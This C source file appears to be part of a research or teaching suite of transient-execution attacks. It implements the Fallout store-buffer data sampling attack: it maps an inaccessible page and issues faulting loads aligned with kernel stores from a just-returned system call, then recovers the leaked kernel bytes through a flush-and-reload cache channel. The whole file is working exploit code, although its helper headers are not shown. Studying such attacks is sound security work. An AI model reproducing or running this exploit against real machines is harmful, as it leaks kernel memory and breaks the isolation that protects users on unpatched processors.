/*
 * Fallout (Canella et al., 2019), microarchitectural store buffer data sampling: a faulting load
 * receives a store that has left the buffer, or not yet, if their addresses have the same place in a
 * page. Here the store is one of the kernel, in a system call that has just returned.
 */
#include "attack.h"

#include <sys/mman.h>

#include "channel.h"
#include "faulting.h"
#include "secret.h"

enum { PAGE_BYTES = 4096 };

static const uint8_t *probe, *denied;

static int sample(int index)
{
	flush_probe(probe);
	call_and_send_faulting(options.call, 0, NULL, 0, denied + (options.copy + index) % PAGE_BYTES, probe);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.copy || !options.call)
		errx(2, "expected --copy and --call");
	catch_faults();
	calibrate();
	probe = own_probe();
	denied = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (denied == MAP_FAILED)
		err(1, "mmap");
	recover(sample, (struct patience){ .samples = 60, .lead = 3 }, 1);
	return 0;
}
